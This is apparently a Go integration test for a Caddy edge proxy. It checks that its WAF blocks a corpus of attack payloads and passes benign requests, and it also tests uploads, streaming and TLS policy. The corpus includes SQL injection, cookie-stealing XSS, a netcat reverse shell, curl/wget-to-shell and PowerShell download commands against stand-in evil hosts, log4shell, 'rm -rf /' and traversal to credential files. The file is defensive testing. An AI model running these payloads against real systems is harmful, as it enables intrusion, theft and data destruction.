package integration

import (
	"bytes"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/projectneo/caddy-neo/integration/harness"
	"github.com/projectneo/caddy-neo/modules/echo"
)

// edge is one caddy process running the edge snippets in front of an echo
// replica, on free ports, for the hosts acme-dev.apps.localhost and
// globex-dev.apps.localhost.
type edge struct {
	inst  *harness.Instance
	https string // 127.0.0.1:port
	roots func() *tls.Config
}

func startEdge(t *testing.T, env ...string) *edge {
	t.Helper()
	return startEdgeWith(t, "", env...)
}

// startEdgeWith is startEdge with more global options (globals).
func startEdgeWith(t *testing.T, globals string, env ...string) *edge {
	t.Helper()
	ports, err := harness.FreePorts(4)
	if err != nil {
		t.Fatal(err)
	}
	admin, httpPort, httpsPort, echoPort := ports[0], ports[1], ports[2], ports[3]
	cfg := fmt.Sprintf(`{
	admin 127.0.0.1:%d
	http_port %d
	https_port %d
	default_bind 127.0.0.1
	local_certs
	skip_install_trust
	import %[5]s/caddyfiles/snippets/edge-global.caddy
%[6]s
}

import %[5]s/caddyfiles/snippets/edge.caddy

acme-dev.apps.localhost, globex-dev.apps.localhost {
	import neo_edge {
		reverse_proxy 127.0.0.1:%[4]d {
			flush_interval -1
		}
	}
}

http://:%[4]d {
	neo_echo {
		replica edge-test
	}
}
`, admin, httpPort, httpsPort, echoPort, harness.RepoRoot(), globals)
	inst := harness.Start(t, harness.Options{
		Config:  cfg,
		Admin:   fmt.Sprintf("127.0.0.1:%d", admin),
		Env:     env,
		WaitFor: []string{fmt.Sprintf("127.0.0.1:%d", httpsPort), fmt.Sprintf("127.0.0.1:%d", echoPort)},
	})
	roots, err := inst.RootPool("local")
	if err != nil {
		t.Fatal(err)
	}
	e := &edge{inst: inst, https: fmt.Sprintf("127.0.0.1:%d", httpsPort), roots: func() *tls.Config { return &tls.Config{RootCAs: roots} }}
	c := e.client("")
	for _, h := range []string{"acme-dev.apps.localhost", "globex-dev.apps.localhost"} {
		if err := harness.WaitServing(c, e.url(h, "/"), 20*time.Second); err != nil {
			t.Fatal(err)
		}
	}
	return e
}

func (e *edge) url(host, path string) string {
	_, port, _ := net.SplitHostPort(e.https)
	return "https://" + host + ":" + port + path
}

// client dials the edge from local address src (an address of 127/8, "" for
// any), so tests can play several client addresses.
func (e *edge) client(src string) *http.Client {
	d := &net.Dialer{Timeout: 5 * time.Second}
	if src != "" {
		d.LocalAddr = &net.TCPAddr{IP: net.ParseIP(src)}
	}
	tr := &http.Transport{
		DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
			return d.DialContext(ctx, network, e.https)
		},
		TLSClientConfig:   e.roots(),
		ForceAttemptHTTP2: true,
	}
	return &http.Client{Transport: tr, Timeout: 60 * time.Second,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
}

func do(t *testing.T, c *http.Client, req *http.Request) (int, http.Header, []byte) {
	t.Helper()
	resp, err := c.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", req.Method, req.URL, err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, resp.Header, body
}

// attack is one malicious request: where the payload goes and what it is.
type attack struct {
	name, where, payload string
}

func (a attack) request(t *testing.T, base string) *http.Request {
	t.Helper()
	var req *http.Request
	var err error
	switch a.where {
	case "query":
		req, err = http.NewRequest("GET", base+"/orders/search?q="+url.QueryEscape(a.payload), nil)
	case "json":
		body, _ := json.Marshal(map[string]any{"name": a.payload, "qty": 1})
		req, err = http.NewRequest("POST", base+"/orders/items", bytes.NewReader(body))
		if err == nil {
			req.Header.Set("Content-Type", "application/json")
		}
	case "form":
		req, err = http.NewRequest("POST", base+"/orders/items", strings.NewReader(url.Values{"comment": {a.payload}}.Encode()))
		if err == nil {
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		}
	case "header":
		req, err = http.NewRequest("GET", base+"/orders/", nil)
		if err == nil {
			req.Header.Set("Referer", a.payload)
		}
	case "cookie":
		req, err = http.NewRequest("GET", base+"/orders/", nil)
		if err == nil {
			req.Header.Set("Cookie", "session="+url.QueryEscape(a.payload))
		}
	case "user-agent":
		req, err = http.NewRequest("GET", base+"/orders/", nil)
		if err == nil {
			req.Header.Set("User-Agent", a.payload)
		}
	case "path":
		req, err = http.NewRequest("GET", base+a.payload, nil)
	case "raw-header":
		req, err = http.NewRequest("GET", base+"/orders/", nil)
		if err == nil {
			k, v, _ := strings.Cut(a.payload, ": ")
			req.Header.Set(k, v)
		}
	default:
		t.Fatalf("unknown place %q", a.where)
	}
	if err != nil {
		t.Fatal(err)
	}
	if req.Header.Get("User-Agent") == "" {
		req.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) caddy-neo-test")
	}
	req.Header.Set("Accept", "application/json")
	return req
}

// attackCorpus: SQL injection, XSS, remote command execution, local file
// inclusion and path traversal, scanner user agents and protocol anomalies, in
// the query, JSON and form bodies, headers and cookies.
var attackCorpus = []attack{
	// SQL injection
	{"sqli union", "query", "1 UNION SELECT username, password FROM users--"},
	{"sqli tautology", "query", "' OR '1'='1"},
	{"sqli sleep", "query", "1; SELECT pg_sleep(10)--"},
	{"sqli benchmark", "query", "1 AND BENCHMARK(5000000,MD5(1))"},
	{"sqli stacked drop", "query", "1'; DROP TABLE orders; --"},
	{"sqli information_schema", "query", "1 AND 1=(SELECT COUNT(*) FROM information_schema.tables)"},
	{"sqli json union", "json", "x' UNION ALL SELECT NULL,NULL,concat(user(),0x3a,database())-- -"},
	{"sqli json or", "json", "admin' OR 1=1 --"},
	{"sqli form", "form", "1' AND extractvalue(1,concat(0x7e,(SELECT version())))--"},
	{"sqli cookie", "cookie", "' UNION SELECT password FROM users WHERE '1'='1"},
	{"sqli waitfor", "form", "1'; WAITFOR DELAY '0:0:10'--"},
	{"sqli hex", "query", "1 AND 0x50=0x50 UNION SELECT @@version"},
	// XSS
	{"xss script", "query", "<script>alert(document.cookie)</script>"},
	{"xss img onerror", "query", "<img src=x onerror=alert(1)>"},
	{"xss svg onload", "json", "<svg/onload=alert('xss')>"},
	{"xss javascript uri", "query", "javascript:alert(1)"},
	{"xss iframe", "form", "<iframe src=\"javascript:alert(1)\"></iframe>"},
	{"xss body onload", "json", "<body onload=alert(1)>"},
	{"xss event handler", "form", "\" onmouseover=\"alert(1)"},
	{"xss referer", "header", "http://x/<script>alert(1)</script>"},
	{"xss cookie", "cookie", "<script>document.location='http://evil/'+document.cookie</script>"},
	{"xss style expression", "query", "<div style=\"width:expression(alert(1))\">"},
	// Remote command execution
	{"rce semicolon", "query", "; cat /etc/passwd"},
	{"rce pipe", "query", "| nc -e /bin/sh 10.0.0.1 4444"},
	{"rce backticks", "json", "`wget http://evil/x.sh -O- | sh`"},
	{"rce subshell", "form", "$(curl http://evil/shell.sh | bash)"},
	{"rce powershell", "query", "powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://x')\""},
	{"rce shellshock", "user-agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"},
	{"rce php system", "query", "<?php system($_GET['cmd']); ?>"},
	{"rce java runtime", "json", "java.lang.Runtime.getRuntime().exec(\"id\")"},
	{"rce log4shell", "header", "${jndi:ldap://evil.example/a}"},
	{"rce and chain", "form", "x && rm -rf / --no-preserve-root"},
	// Local file inclusion and path traversal
	{"lfi etc passwd", "query", "../../../../etc/passwd"},
	{"lfi encoded", "query", "..%2f..%2f..%2fetc%2fpasswd"},
	{"lfi windows", "query", "..\\..\\..\\windows\\win.ini"},
	{"lfi proc", "query", "/proc/self/environ"},
	{"lfi php wrapper", "query", "php://filter/convert.base64-encode/resource=index.php"},
	{"lfi json", "json", "../../../../../etc/shadow"},
	{"lfi path", "path", "/orders/..%2f..%2f..%2f..%2fetc/passwd"},
	{"rfi", "query", "http://evil.example/shell.txt?"},
	{"lfi cookie", "cookie", "../../../../etc/passwd"},
	{"lfi ssh key", "form", "/root/.ssh/id_rsa"},
	// Scanners
	{"scanner nikto", "user-agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"},
	{"scanner sqlmap", "user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
	{"scanner nmap", "user-agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"},
	{"scanner masscan", "user-agent", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"},
	{"scanner nuclei", "user-agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"},
	// Protocol anomalies and attacks
	{"response splitting", "query", "x\r\nSet-Cookie: evil=1"},
	{"header injection", "form", "foo\r\nLocation: http://evil.example/"},
	{"content-type not allowed", "raw-header", "Content-Type: application/x-evil-type"},
	{"node prototype pollution", "json", "__proto__[isAdmin]=true"},
	{"session fixation", "query", "<meta http-equiv=\"Set-Cookie\" content=\"SESSIONID=evil\">"},
	{"ssi injection", "form", "<!--#exec cmd=\"/bin/ls /\" -->"},
	{"nosql injection", "query", "{\"$where\": \"sleep(5000)\"}"},
	{"restricted file", "path", "/.env"},
	{"git config", "path", "/.git/config"},
}

// benign is a request of the demo apps' normal kind that must pass.
type benign struct {
	name   string
	method string
	path   string
	ctype  string
	body   string
}

var benignCorpus = []benign{
	{"list", "GET", "/orders/", "", ""},
	{"item", "GET", "/orders/items/42?expand=lines&currency=EUR", "", ""},
	{"search", "GET", "/orders/search?q=blue+shoes&page=2&sort=-created", "", ""},
	{"search apostrophe", "GET", "/orders/search?q=" + url.QueryEscape("O'Reilly's guide"), "", ""},
	{"json order", "POST", "/orders/items", "application/json", `{"customer":"Jane O'Connor","note":"Leave it at the neighbour's \"blue\" door","lines":[{"sku":"A-1","qty":2},{"sku":"B-7","qty":1}]}`},
	{"json quotes", "POST", "/orders/items", "application/json", `{"title":"The \"best\" deal","comment":"it's great, isn't it?","tags":["a","b"]}`},
	{"json unicode", "PUT", "/orders/items/7", "application/json", `{"name":"Crème brûlée – 2×","emoji":"🍮","city":"São Paulo"}`},
	{"json numbers", "PATCH", "/orders/items/7", "application/json", `{"price":19.99,"discount":-0.5,"flags":{"gift":true,"rush":false},"ids":[1,2,3]}`},
	{"form", "POST", "/orders/checkout", "application/x-www-form-urlencoded", "name=Jane+Doe&address=12+Main+St.%2C+Apt+4&note=Ring+twice%2C+it%27s+loud"},
	{"delete", "DELETE", "/orders/items/42", "", ""},
	{"plain text", "POST", "/orders/notes", "text/plain", "Please deliver between 9 and 5. Thanks!"},
}

func TestEdgeWAFBlocksAttackCorpus(t *testing.T) {
	if len(attackCorpus) < 50 {
		t.Fatalf("the attack corpus has %d payloads, want at least 50", len(attackCorpus))
	}
	e := startEdge(t)
	c := e.client("")
	base := strings.TrimSuffix(e.url("acme-dev.apps.localhost", "/"), "/")
	for _, a := range attackCorpus {
		t.Run(a.where+"/"+a.name, func(t *testing.T) {
			status, _, body := do(t, c, a.request(t, base))
			if status != http.StatusForbidden {
				t.Fatalf("status %d, want 403; body %.200q", status, body)
			}
			if string(body) != "Forbidden" {
				t.Fatalf("blocked page is not the generic one: %.200q", body)
			}
		})
	}
	// Every block is one JSON line, the request's access line: client
	// address, host (the tenant), status 403, the WAF's outcome and the ids
	// of the rules that matched, among them an attack rule (94xxxx). No line
	// per matched rule (Coraza's http.handlers.waf logger), no audit record
	// in another schema. The line is written as the request ends: wait for
	// the last ones.
	type accessLine struct {
		Logger  string `json:"logger"`
		Status  int    `json:"status"`
		Request struct {
			ClientIP string `json:"client_ip"`
			Host     string `json:"host"`
		} `json:"request"`
		WAF      string `json:"waf"`
		WAFRules string `json:"waf_rules"`
	}
	var blocked []accessLine
	var other []string
	attackRule := regexp.MustCompile(`(^| )94[0-9]{4}( |$)`)
	for deadline := time.Now().Add(5 * time.Second); ; {
		blocked, other = nil, nil
		for _, line := range strings.Split(e.inst.Logs(), "\n") {
			if strings.Contains(line, `"logger":"http.handlers.waf"`) || strings.HasPrefix(line, `{"transaction"`) {
				other = append(other, line)
			}
			var a accessLine
			if json.Unmarshal([]byte(line), &a) == nil && strings.HasPrefix(a.Logger, "http.log.access") && a.Status == http.StatusForbidden {
				blocked = append(blocked, a)
			}
		}
		if len(blocked) >= len(attackCorpus) || time.Now().After(deadline) {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	for _, a := range blocked {
		if a.Request.ClientIP != "127.0.0.1" || !strings.HasPrefix(a.Request.Host, "acme-dev.apps.localhost") || a.WAF != "blocked" || !attackRule.MatchString(a.WAFRules) {
			t.Errorf("access line of a block lacks client, host, outcome or an attack rule: %+v", a)
		}
	}
	if len(blocked) != len(attackCorpus) {
		t.Errorf("%d access lines with status 403 for %d blocked requests", len(blocked), len(attackCorpus))
	}
	if len(other) > 0 {
		t.Errorf("%d more WAF lines (per matched rule, or audit records), for example: %.300s", len(other), other[0])
	}
}

func TestEdgeWAFPassesBenignCorpus(t *testing.T) {
	e := startEdge(t)
	c := e.client("")
	base := strings.TrimSuffix(e.url("acme-dev.apps.localhost", "/"), "/")
	for _, b := range benignCorpus {
		t.Run(b.name, func(t *testing.T) {
			req, err := http.NewRequest(b.method, base+b.path, strings.NewReader(b.body))
			if err != nil {
				t.Fatal(err)
			}
			if b.ctype != "" {
				req.Header.Set("Content-Type", b.ctype)
			}
			req.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) caddy-neo-test")
			req.Header.Set("Accept", "application/json")
			status, _, body := do(t, c, req)
			if status != 200 {
				t.Fatalf("false positive: status %d, body %.200q", status, body)
			}
			var rep echo.Report
			if err := json.Unmarshal(body, &rep); err != nil || rep.BodyLength != int64(len(b.body)) {
				t.Fatalf("replica saw %+v (%v)", rep, err)
			}
		})
	}
	// Benign requests leave no warning in the log: Coraza's diagnostics
	// (e.g. "key not found in collection", three per request at its default
	// level) are kept to errors by SecDebugLogLevel in the edge snippet.
	for _, line := range strings.Split(e.inst.Logs(), "\n") {
		if strings.Contains(line, `"level":"warn"`) && strings.Contains(line, "http.handlers.waf") {
			t.Fatalf("WAF warning on benign traffic: %.300s", line)
		}
	}
}

func TestEdgeWAFUploadsAndStreams(t *testing.T) {
	e := startEdge(t)
	c := e.client("")
	base := strings.TrimSuffix(e.url("acme-dev.apps.localhost", "/"), "/")
	post := func(ctype string, body []byte) (int, echo.Report) {
		req, _ := http.NewRequest("POST", base+"/orders/upload", bytes.NewReader(body))
		req.Header.Set("Content-Type", ctype)
		req.Header.Set("User-Agent", "Mozilla/5.0 caddy-neo-test")
		status, _, resp := do(t, c, req)
		var rep echo.Report
		json.Unmarshal(resp, &rep)
		return status, rep
	}
	// A binary upload of exactly 28 MiB arrives intact.
	bin := make([]byte, 28<<20)
	for i := range bin {
		bin[i] = byte(i * 7)
	}
	sum := sha256.Sum256(bin)
	if status, rep := post("application/octet-stream", bin); status != 200 || rep.BodySHA256 != hex.EncodeToString(sum[:]) {
		t.Fatalf("28 MiB binary upload: status %d, replica saw %d bytes", status, rep.BodyLength)
	}
	// A multipart upload of a 10 MiB file is inspected and passes.
	var mp bytes.Buffer
	mw := multipart.NewWriter(&mp)
	mw.WriteField("title", "Quarterly report")
	fw, _ := mw.CreateFormFile("file", "report.pdf")
	fw.Write(bytes.Repeat([]byte("%PDF-1.7 plain report content\n"), (10<<20)/30))
	mw.Close()
	if status, _ := post(mw.FormDataContentType(), mp.Bytes()); status != 200 {
		t.Fatalf("multipart upload: status %d", status)
	}
	// Over the limit: 413.
	if status, _ := post("application/octet-stream", make([]byte, 28<<20+1)); status != http.StatusRequestEntityTooLarge {
		t.Fatalf("28 MiB + 1: status %d, want 413", status)
	}
	// Server-sent events reach the client as they are produced.
	req, _ := http.NewRequest("GET", base+"/orders/events", nil)
	req.Header.Set("Echo-Events", "3")
	req.Header.Set("Echo-Interval", "300ms")
	req.Header.Set("User-Agent", "Mozilla/5.0 caddy-neo-test")
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var arrivals []time.Time
	buf := make([]byte, 4096)
	for len(arrivals) < 3 {
		n, err := resp.Body.Read(buf)
		for range strings.Count(string(buf[:n]), "data: ") {
			arrivals = append(arrivals, time.Now())
		}
		if err != nil {
			break
		}
	}
	if len(arrivals) != 3 {
		t.Fatalf("got %d events", len(arrivals))
	}
	if gap := arrivals[2].Sub(arrivals[0]); gap < 400*time.Millisecond {
		t.Fatalf("events arrived together (%s for three events 300ms apart): the response was buffered", gap)
	}
}

func TestEdgeTLSPolicy(t *testing.T) {
	e := startEdge(t)
	// TLS 1.1 is refused.
	conn, err := tls.Dial("tcp", e.https, &tls.Config{ServerName: "acme-dev.apps.localhost", MinVersion: tls.VersionTLS10, MaxVersion: tls.VersionTLS11, RootCAs: e.roots().RootCAs})
	if err == nil {
		conn.Close()
		t.Fatal("a TLS 1.1 handshake succeeded")
	}
	// TLS 1.3 is preferred.
	conn, err = tls.Dial("tcp", e.https, &tls.Config{ServerName: "acme-dev.apps.localhost", RootCAs: e.roots().RootCAs})
	if err != nil {
		t.Fatal(err)
	}
	if v := conn.ConnectionState().Version; v != tls.VersionTLS13 {
		t.Fatalf("negotiated %x, want TLS 1.3", v)
	}
	conn.Close()
	// HSTS on every HTTPS response, errors included.
	c := e.client("")
	for _, path := range []string{"/orders/", "/orders/search?q=" + url.QueryEscape("<script>alert(1)</script>")} {
		resp, err := c.Get(e.url("acme-dev.apps.localhost", path))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if h := resp.Header.Get("Strict-Transport-Security"); !strings.Contains(h, "max-age=") {
			t.Fatalf("%s (%d): no HSTS header", path, resp.StatusCode)
		}
	}
	// Domain fronting: TLS for acme, Host header of globex.
	tr := &http.Transport{
		DialTLSContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
			return tls.Dial("tcp", e.https, &tls.Config{ServerName: "acme-dev.apps.localhost", RootCAs: e.roots().RootCAs})
		},
	}
	req, _ := http.NewRequest("GET", e.url("globex-dev.apps.localhost", "/billing/"), nil)
	resp, err := tr.RoundTrip(req)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusMisdirectedRequest || strings.Contains(string(body), "edge-test") {
		t.Fatalf("Host differing from the TLS server name: status %d body %.100q, want 421", resp.StatusCode, body)
	}
}
